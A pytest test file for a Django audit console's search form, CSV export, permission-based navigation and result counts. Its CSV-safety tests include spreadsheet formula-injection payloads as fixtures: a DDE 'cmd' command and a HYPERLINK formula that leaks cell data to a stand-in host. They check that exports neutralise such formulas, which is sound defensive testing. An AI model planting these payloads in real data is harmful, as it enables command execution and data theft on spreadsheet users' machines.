"""The console's search and CSV: an invalid search searches nothing (and makes no CSV), a date
alone as "Until" includes that day, spreadsheet formulas in recorded text are made inert, the
navigation offers only what the user may open, and the page says how many events it found."""

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext

from apps.audit.console import SearchForm, csv_value
from apps.audit.selectors import FILTER_NAMES
from apps.common.csv_safety import csv_safe
from tests.audit.conftest import record_read

pytestmark = pytest.mark.django_db
BASE = "/admin/audit/auditevent/"
TZ = dt.timezone(dt.timedelta(hours=8))


def seqs_shown(response) -> set[int]:
    return {e.seq for e in response.context["events"]}


def csv_rows(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body)))


@pytest.fixture
def reads(world):
    from tests.factories import DepartmentFactory

    other = DepartmentFactory(code="RS", name="人社厅")
    return {
        "wj": record_read(world, request_id="wj"),
        "rs": record_read(world, request_id="rs", consumer=other),
    }


# F5: one invalid value never drops every filter.


@pytest.mark.parametrize("since", ["2026-11-31", "26/11/2026", "yesterday"])
def test_an_invalid_search_shows_its_errors_and_no_events(client, world, reads, since):
    client.force_login(world.platform_auditor)
    response = client.get(BASE, {"department": "RS", "since": since})
    assert response.status_code == 200
    assert response.context["form"].errors["since"]
    assert response.context["events"] == []
    content = response.content.decode()
    assert "nothing was searched" in content and 'id="result_list"' not in content
    assert "export.csv?" not in content  # no CSV link for a search that was not run


@pytest.mark.parametrize("since", ["2026-11-31", "26/11/2026"])
def test_the_csv_of_an_invalid_search_is_refused_never_the_whole_log(client, world, reads, since):
    client.force_login(world.platform_auditor)
    response = client.get(BASE + "export.csv", {"department": "RS", "since": since})
    assert response.status_code == 400
    assert not response.streaming
    assert "No CSV was made" in response.content.decode()
    assert response["Content-Type"].startswith("text/html")


@pytest.mark.parametrize(
    ("search", "name", "message"),
    [
        ({"department": "XX-NOPE"}, "department", "No department has the code “XX-NOPE”."),
        # A department's old code, beside a known one.
        ({"consumer": "RS", "provider": "old"}, "provider", "No department has the code “old”."),
    ],
)
def test_a_code_nothing_has_is_a_form_error_not_no_matching_events(
    client, world, reads, search, name, message
):
    client.force_login(world.platform_auditor)
    response = client.get(BASE, search)
    assert response.status_code == 200
    assert response.context["form"].errors == {name: [message]}
    content = response.content.decode()
    assert "nothing was searched" in content and "No events match" not in content
    assert message in content and "export.csv?" not in content
    csv = client.get(BASE + "export.csv", search)
    assert csv.status_code == 400 and not csv.streaming
    assert "No CSV was made" in csv.content.decode()
    assert csv.context["form"].errors == {name: [message]}


def test_a_valid_search_still_filters_and_exports(client, world, reads):
    client.force_login(world.platform_auditor)
    response = client.get(BASE, {"department": "RS"})
    assert seqs_shown(response) == {reads["rs"].seq}
    rows = csv_rows(client.get(BASE + "export.csv", {"department": "RS"}))
    assert [r["request_id"] for r in rows] == ["rs"]


def test_the_console_offers_the_events_apis_filters():
    assert set(SearchForm.base_fields) == set(FILTER_NAMES)


# F6: "Until" a date includes that day.


def test_until_a_date_includes_that_whole_day(client, world, log_from_the_past):
    with time_machine.travel(dt.datetime(2026, 3, 4, 23, 30, tzinfo=TZ), tick=False):
        late = record_read(world, request_id="late")
    with time_machine.travel(dt.datetime(2026, 3, 5, 0, 0, 1, tzinfo=TZ), tick=False):
        next_day = record_read(world, request_id="next")
    client.force_login(world.platform_auditor)
    got = seqs_shown(client.get(BASE, {"since": "2026-03-04", "until": "2026-03-04"}))
    assert late.seq in got and next_day.seq not in got
    # A time is still exclusive.
    got = seqs_shown(client.get(BASE, {"until": "2026-03-04 23:30"}))
    assert late.seq not in got


# F3: formulas in recorded text are inert in the CSV; the exact value stays in the log.

INJECTED = {
    "purpose": "=cmd|' /C calc'!A0",
    "end_user": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "case_id": "+SUM(1,2)",
}


def test_csv_cells_that_a_spreadsheet_would_run_are_prefixed(client, world):
    event = record_read(world, request_id="inj", **INJECTED)
    other = record_read(world, request_id="inj2", purpose="@SUM(1+1)", end_user="-2+3")
    client.force_login(world.platform_auditor)
    rows = {r["request_id"]: r for r in csv_rows(client.get(BASE + "export.csv"))}
    assert rows["inj"]["purpose"] == "'=cmd|' /C calc'!A0"
    assert rows["inj"]["end_user"].startswith("'=HYPERLINK(")
    assert rows["inj"]["case_id"] == "'+SUM(1,2)"
    assert rows["inj2"]["purpose"] == "'@SUM(1+1)" and rows["inj2"]["end_user"] == "'-2+3"
    assert event.data["purpose"] == INJECTED["purpose"] and other.data["end_user"] == "-2+3"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("核验 = 1", "核验 = 1"),
        ("a-b", "a-b"),
        ("", ""),
    ],
)
def test_csv_safe_prefixes_only_what_could_start_a_formula(value, cell):
    assert csv_safe(value) == cell


def test_csv_numbers_and_json_cells_are_left_as_they_are():
    assert csv_value(-3) == -3 and csv_value(12.5) == 12.5
    assert csv_value({"a": "=1"}) == '{"a":"=1"}'


# F16: the navigation links only the pages the user may open.


@pytest.mark.parametrize("page", ["", "stats/", "SEQ/"])
def test_officers_are_not_offered_verification_or_alerts(client, world, reads, page):
    client.force_login(world.consumer_officer)
    response = client.get(BASE + page.replace("SEQ", str(reads["wj"].seq)))
    assert response.status_code == 200
    content = response.content.decode()
    assert "/admin/audit/auditevent/verify/" not in content
    assert "/admin/audit/auditevent/alerts/" not in content


@pytest.mark.parametrize("page", ["", "stats/", "SEQ/", "verify/", "alerts/"])
def test_auditors_are_offered_every_page(client, world, reads, page):
    client.force_login(world.provider_auditor)
    content = client.get(BASE + page.replace("SEQ", str(reads["wj"].seq))).content.decode()
    assert 'href="/admin/audit/auditevent/verify/"' in content
    assert 'href="/admin/audit/auditevent/alerts/"' in content


# F17: how many events were found; the detail page's time says its zone.


def test_the_search_says_how_many_events_match_when_they_fit_on_the_page(client, world, reads):
    client.force_login(world.platform_auditor)
    content = client.get(BASE, {"department": "RS"}).content.decode()
    assert "1 event matches." in content


def test_the_search_says_more_match_when_there_is_another_page(client, world, reads, settings):
    from apps.audit import console

    for i in range(console.PAGE):
        record_read(world, request_id=f"bulk{i}")
    client.force_login(world.platform_auditor)
    response = client.get(BASE, {"consumer": "WJ"})
    assert f"{console.PAGE} events shown; more match" in response.content.decode()
    older = client.get(BASE + "?" + response.context["next_query"])
    assert "1 more event: the last of this search." in older.content.decode()


def test_the_search_page_costs_the_same_queries_however_many_events(
    client, world, reads, django_assert_num_queries
):
    client.force_login(world.platform_auditor)
    search = {"department": "WJ", "field": "name", "purpose": "核验"}
    with CaptureQueriesContext(connection) as one_event:
        client.get(BASE, search)
    for i in range(60):
        record_read(world, request_id=f"more{i}")
    with django_assert_num_queries(len(one_event)):
        response = client.get(BASE, search)
    assert len(response.context["events"]) == 50


def test_the_detail_page_gives_the_time_with_its_zone(client, world, log_from_the_past):
    with time_machine.travel(dt.datetime(2026, 3, 4, 15, 9, 37, 251541, tzinfo=TZ), tick=False):
        event = record_read(world)
    client.force_login(world.platform_auditor)
    content = client.get(f"{BASE}{event.seq}/").content.decode()
    assert "2026-03-04 15:09:37.251541 (UTC+08:00, Asia/Shanghai)" in content
